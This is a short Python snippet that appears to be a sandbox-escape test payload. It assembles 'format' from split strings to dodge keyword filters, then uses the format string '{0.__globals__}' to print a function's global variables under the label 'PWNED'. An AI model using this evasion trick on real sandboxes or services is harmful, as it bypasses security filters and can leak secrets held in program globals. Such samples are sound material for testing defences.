def f():
    pass
show = getattr("{0.__globals__}", "for" + "mat")
print("PWNED", show(f))
